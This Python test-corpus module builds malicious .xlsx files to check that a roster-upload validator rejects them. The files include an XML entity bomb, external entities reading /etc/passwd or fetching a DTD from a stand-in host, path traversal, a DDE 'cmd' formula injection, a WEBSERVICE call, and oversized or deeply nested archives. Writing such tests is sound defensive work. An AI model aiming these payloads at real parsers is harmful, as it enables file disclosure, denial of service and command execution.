"""Workbooks whose parts are the weapon."""

import hashlib

from tests.hostile.archives import HEADINGS, RELATIONS, SHEET, row_xml, sheet_xml, workbook
from tests.hostile.corpus import hostile

PERSON = ("林晓禾", "男", "110000199003079874", "19400001234", "测试学院")
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(8))
    + "]>"
)


def _roster(second_row: str, **parts: str) -> bytes:
    return workbook({SHEET: sheet_xml(row_xml(1, HEADINGS) + second_row, **parts)})


@hostile("billion laughs in a sheet", "roster.xlsx", "WORKBOOK_DAMAGED")
def _billion_laughs() -> bytes:
    return _roster(row_xml(2, ("&i;", *PERSON[1:])), prolog=LAUGHS)


@hostile("an external entity that reads a file", "roster.xlsx", "WORKBOOK_DAMAGED")
def _external_entity() -> bytes:
    return _roster(row_xml(2, ("&f;", *PERSON[1:])), prolog='<!DOCTYPE w [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


@hostile("a DTD hidden by UTF-16", "roster.xlsx", "WORKBOOK_DAMAGED")
def _wide_doctype() -> bytes:
    sheet = sheet_xml(row_xml(1, HEADINGS), prolog='<!DOCTYPE w SYSTEM "http://192.0.2.1/evil.dtd">')
    return workbook({SHEET: sheet.replace('"1.0"', '"1.0" encoding="UTF-16"', 1).encode("utf-16")})


@hostile("a cell in XFD1048576", "roster.xlsx", "TOO_MANY_ROWS")
def _far_cell() -> bytes:
    return _roster('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


@hostile("a row number of fourteen digits", "roster.xlsx", "TOO_MANY_ROWS")
def _far_row() -> bytes:
    return _roster('<row r="99999999999999"><c><v>1</v></c></row>')


@hostile("a filled cell in column XFD", "roster.xlsx", "TOO_MANY_COLUMNS")
def _far_column() -> bytes:
    return _roster('<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>')


@hostile("1.2 million empty cells that hardly compress", "roster.xlsx", "ARCHIVE_TOO_LARGE")
def _countless_tags() -> bytes:
    noise = (hashlib.sha256(number.to_bytes(4, "big")).hexdigest() for number in range(1_200))
    return workbook({SHEET: sheet_xml("<row>" + "".join("<c/>" * 1000 + f"<!--{n}-->" for n in noise) + "</row>")})


@hostile("elements nested 100,000 deep", "roster.xlsx", "ARCHIVE_TOO_LARGE")
def _nested() -> bytes:
    return workbook({SHEET: sheet_xml("<row>" * 100_000 + "</row>" * 100_000)})


@hostile("a macro, renamed to .xlsx", "roster.xlsx", "WORKBOOK_MACROS")
def _macro() -> bytes:
    return workbook({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


@hostile("a macro sheet of Excel 4", "roster.xlsx", "WORKBOOK_MACROS")
def _macro_sheet() -> bytes:
    return workbook({"xl/macrosheets/sheet1.xml": "<x/>"})


@hostile("links to another workbook", "roster.xlsx", "WORKBOOK_LINKS")
def _external_links() -> bytes:
    return workbook({"xl/externalLinks/externalLink1.xml": "<x/>"})


@hostile("a connection to a database", "roster.xlsx", "WORKBOOK_LINKS")
def _connections() -> bytes:
    return workbook({"xl/connections.xml": "<connections/>"})


@hostile("a program embedded as an object", "roster.xlsx", "WORKBOOK_OBJECTS")
def _embedded_object() -> bytes:
    return workbook({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


@hostile("a sheet part outside the archive", "roster.xlsx", "WORKBOOK_DAMAGED")
def _path_outside() -> bytes:
    relations = RELATIONS.format(kind="worksheet", target="../../../../../../etc/passwd")
    return workbook({"xl/_rels/workbook.xml.rels": relations})


@hostile("styles of 2 MB", "roster.xlsx", "ARCHIVE_TOO_LARGE")
def _huge_styles() -> bytes:
    noise = "".join(hashlib.sha256(number.to_bytes(4, "big")).hexdigest() for number in range(40_000))
    return workbook({"xl/styles.xml": f"<styleSheet><!--{noise}--></styleSheet>"})


@hostile("a shared string that is not there", "roster.xlsx", "WORKBOOK_DAMAGED")
def _missing_shared_string() -> bytes:
    return _roster('<row r="2"><c r="A2" t="s"><v>7</v></c></row>')


@hostile("a number of 5,000 digits", "roster.xlsx", "WORKBOOK_DAMAGED")
def _long_number() -> bytes:
    return _roster(f'<row r="2"><c r="A2"><v>{"1" * 5000}</v></c></row>')


@hostile("300,000 merged ranges", "roster.xlsx", "WORKBOOK_DAMAGED")
def _merge_storm() -> bytes:
    ranges = "".join(f'<mergeCell ref="A{row}:XFD{row + 1_000_000}"/>' for row in range(300_000))
    return _roster(row_xml(2, PERSON), after=f"<mergeCells>{ranges}</mergeCells>")


@hostile("one merged range over the whole sheet", "roster.xlsx", ":MERGED")
def _whole_sheet_merged() -> bytes:
    return _roster(row_xml(2, PERSON), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


@hostile("a name that is a formula for another program", "roster.xlsx", ":CHARSET")
def _formula_name() -> bytes:
    return _roster(row_xml(2, ("=cmd|'/C calc'!A", *PERSON[1:])))


@hostile("a formula whose value nobody computed", "roster.xlsx", ":FORMULA")
def _formula() -> bytes:
    return _roster('<row r="2"><c r="A2"><f>WEBSERVICE("http://192.0.2.1/")</f></c></row>')


@hostile("a name written right to left", "roster.xlsx", ":CHARSET")
def _reversed_name() -> bytes:
    return _roster(row_xml(2, ("林\u05d0晓禾\u05d1", *PERSON[1:])))


@hostile("a name of Latin and look-alike Cyrillic", "roster.xlsx", ":CHARSET")
def _mixed_script_name() -> bytes:
    return _roster(row_xml(2, ("Anna \u0410nna", *PERSON[1:])))


@hostile("a Word document", "roster.xlsx", "NOT_XLSX")
def _word_document() -> bytes:
    return workbook({}).replace(b"xl/workbook.xml", b"word/docum.xml.")


@hostile("a workbook in a binary format", "roster.xlsx", "NOT_XLSX")
def _binary_workbook() -> bytes:
    return workbook({"xl/workbook.bin": b"\x83\x01\0"}).replace(b"xl/workbook.xml", b"xl/workbook.xyz")


@hostile("text renamed to .xlsx", "roster.xlsx", "NOT_XLSX")
def _text() -> bytes:
    return ",".join(HEADINGS).encode()


@hostile("a PDF renamed to .xlsx", "roster.xlsx", "NOT_XLSX")
def _pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n"


@hostile("a web page renamed to .xlsx", "roster.xlsx", "NOT_XLSX")
def _web_page() -> bytes:
    return "<html><table><tr><td>姓名</td></tr></table></html>".encode()
